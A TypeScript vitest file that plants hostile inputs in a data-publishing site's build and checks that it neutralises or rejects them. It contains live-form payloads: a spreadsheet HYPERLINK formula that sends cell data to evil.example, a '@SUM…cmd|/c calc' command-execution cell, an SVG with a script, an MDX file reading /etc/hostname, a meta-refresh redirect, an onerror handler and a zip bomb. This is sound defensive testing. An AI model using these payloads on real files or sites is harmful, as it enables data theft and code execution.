/**
 * Hostile and broken input, end to end. Each planted input is built as an
 * office would build it: what the site can publish safely is neutralised
 * in the output (formula cells in the open data's CSV); everything else
 * fails the build with the file and line named, and nothing is published.
 * The office tools (import, import:docx) refuse what they cannot read
 * safely with a message, not a crash.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { astroBuild, cleanupTemp, ROOT, runNpx, tempDir, type BuildResult } from '../helpers/fixtures.ts';
import { zip } from '../fixtures/docx/make-docx.ts';

afterAll(cleanupTemp);

/** A copy of the bundled sample (its media copied, not linked). */
function sample(): string {
  const dir = tempDir('river-hostile-');
  for (const f of [
    'site.yaml',
    'regions.csv',
    'waters.csv',
    'segments.csv',
    'chiefs.csv',
    'assignments.csv',
    'stations.csv',
    'cases.csv',
    'case-events.csv',
    'inspections.csv',
    'patrols.csv',
    'actions.csv',
    'targets.csv',
  ]) {
    writeFileSync(join(dir, f), readFileSync(join(ROOT, 'src/content', f)));
  }
  for (const sub of ['readings', 'documents', 'geo', 'media']) {
    mkdirSync(join(dir, sub));
    const from = join(ROOT, 'src/content', sub);
    for (const f of existsSync(from) ? readdirSync(from) : [])
      writeFileSync(join(dir, sub, f), readFileSync(join(ROOT, 'src/content', sub, f)));
  }
  return dir;
}
const edit = (dir: string, file: string, fn: (s: string) => string) =>
  writeFileSync(join(dir, file), fn(readFileSync(join(dir, file), 'utf8')));
/** Replace one cell of the row whose first cell is `id`. */
function setCell(dir: string, file: string, id: string, column: string, value: string) {
  edit(dir, file, (s) => {
    const lines = s.split('\n');
    const head = lines[0]!.replace(/^\uFEFF/, '').split(',');
    const i = lines.findIndex((l) => l.startsWith(`${id},`));
    const cells = lines[i]!.split(',');
    cells[head.indexOf(column)] = value.includes(',') || value.includes('"') ? `"${value.replace(/"/g, '""')}"` : value;
    lines[i] = cells.join(',');
    return lines.join('\n');
  });
}

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"点击查看")';

describe('neutralised: formula cells in the open data', () => {
  let built: BuildResult;
  beforeAll(async () => {
    const dir = sample();
    // A case whose title has no comma, so the row splits on commas.
    setCell(dir, 'cases.csv', 'wt-2025-001', 'responsible', HYPERLINK);
    setCell(dir, 'chiefs.csv', 'lin-guodong', 'position', '@SUM(1+1)*cmd|/c calc');
    built = await astroBuild(dir);
  });

  it('builds', () => {
    expect(built.code, built.output.slice(-2000)).toBe(0);
  });
  it('the CSV writes the cells with a leading quote; the JSON keeps the text as it is', () => {
    const csv = readFileSync(join(built.outDir, 'data/cases.csv'), 'utf8');
    expect(csv).toContain(`"'${HYPERLINK.replace(/"/g, '""')}"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const chiefs = readFileSync(join(built.outDir, 'data/chiefs.csv'), 'utf8');
    expect(chiefs).toContain(`'@SUM(1+1)*cmd|/c calc`);
    const json = JSON.parse(readFileSync(join(built.outDir, 'data/cases.json'), 'utf8')) as {
      id: string;
      responsible: string;
    }[];
    expect(json.find((c) => c.id === 'wt-2025-001')!.responsible).toBe(HYPERLINK);
  });
  it('the case page shows the cell as text', () => {
    const html = readFileSync(join(built.outDir, 'cases/wt-2025-001/index.html'), 'utf8');
    expect(html).toContain('=HYPERLINK(&quot;https://evil.example/?d=&quot;&amp;B2,&quot;点击查看&quot;)');
  });
});

describe('refused: the build fails and names every planted input', () => {
  let built: BuildResult;
  beforeAll(async () => {
    const dir = sample();
    const outside = tempDir('river-outside-');
    writeFileSync(join(outside, 'secret.jpg'), readFileSync(join(dir, 'media/wt-2026-012-1.jpg')));
    symlinkSync(join(outside, 'secret.jpg'), join(dir, 'media/leak.jpg'));
    writeFileSync(
      join(dir, 'media/evil.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.length)</script></svg>',
    );
    setCell(dir, 'cases.csv', 'wt-2025-002', 'photos', 'leak.jpg;evil.svg');
    writeFileSync(
      join(dir, 'documents/leak.mdx'),
      "---\ntitle: 泄露\nissuer: 某单位\ndate: 2026-01-01\nstatus: in_force\nkind: other\n---\nimport { readFileSync } from 'node:fs'\n\n{readFileSync('/etc/hostname', 'utf8')} {process.env.HOME}\n",
    );
    writeFileSync(
      join(dir, 'documents/refresh.md'),
      '---\ntitle: 跳转\nissuer: 某单位\ndate: 2026-01-01\nstatus: in_force\nkind: other\n---\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<img src="x" onerror="alert(1)">\n\n[点我](javascript:alert(1))\n',
    );
    edit(dir, 'site.yaml', (s) => s.replace(/endpoint: null/, 'endpoint: "http://reports.example.org/api"'));
    writeFileSync(join(dir, 'waters.csv'), Buffer.concat([readFileSync(join(dir, 'waters.csv')), Buffer.from([0xff])]));
    setCell(dir, 'inspections.csv', 'ins-2025-qingshan', 'note', '长'.repeat(5001));
    built = await astroBuild(dir);
  });

  it('fails, and publishes nothing', () => {
    expect(built.code).not.toBe(0);
    expect(existsSync(join(built.outDir, 'index.html'))).toBe(false);
    expect(built.output).not.toMatch(/\n\s+at .*\(file:\/\//);
  });
  it.each([
    ['cases.csv', 'media/leak.jpg 是一个链接'],
    ['cases.csv', 'media/evil.svg 不是 JPEG、PNG、WebP 或 GIF 图片'],
    ['documents/leak.mdx:8:1', 'import 或 export'],
    ['documents/leak.mdx:10:1', '{…} 表达式'],
    ['documents/refresh.md:8:1', 'HTML 标签'],
    ['documents/refresh.md:10:1', 'HTML 标签'],
    ['documents/refresh.md:12:1', '链接只能指向'],
    ['site.yaml', 'https://'],
    ['waters.csv', '文件按 UTF-8 编码读取'],
    ['inspections.csv', '不能超过 5000 字'],
  ])('%s: %s', (where, what) => {
    const line = built.output.split('\n').find((l) => l.includes(where) && l.includes(what));
    expect(line, `no line naming ${where} and "${what}" in:\n${built.output.slice(0, 4000)}`).toBeDefined();
    // A CSV or site.yaml problem names its line and column too.
    if (!where.includes(':')) expect(line).toMatch(new RegExp(`${where.replace('.', '\\.')}:\\d+(:\\d+)?`));
  });
});

describe('the office tools', () => {
  it('import refuses an .xlsx that is a zip bomb, before inflating it, and changes nothing', async () => {
    const dir = sample();
    const before = readFileSync(join(dir, 'chiefs.csv'));
    const bomb = join(tempDir(), 'bomb.xlsx');
    writeFileSync(
      bomb,
      zip({ '[Content_Types].xml': '<Types/>', 'xl/worksheets/sheet1.xml': Buffer.alloc(200 * 1024 * 1024) }),
    );
    const r = await runNpx(['node', 'scripts/import.ts', bomb, '--data', dir]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('超过 100 MB');
    expect(readFileSync(join(dir, 'chiefs.csv')).equals(before)).toBe(true);
  }, 120_000);
  it('import and import:docx refuse a renamed non-ZIP file with a message', async () => {
    const fake = join(tempDir(), 'old.xlsx');
    writeFileSync(fake, '<html>这是网页，不是表格</html>');
    const r = await runNpx(['node', 'scripts/import.ts', fake, '--data', sample(), '--dry-run']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('不是有效的 .xlsx 文件');
    const doc = join(tempDir(), 'old.docx');
    writeFileSync(doc, 'not a zip');
    const d = await runNpx(['node', 'scripts/import-docx.ts', doc, '--out', tempDir()]);
    expect(d.code).toBe(1);
    expect(d.stderr).toContain('不是有效的 .docx 文件');
    expect(d.output).not.toMatch(/\n\s+at /);
  });
});
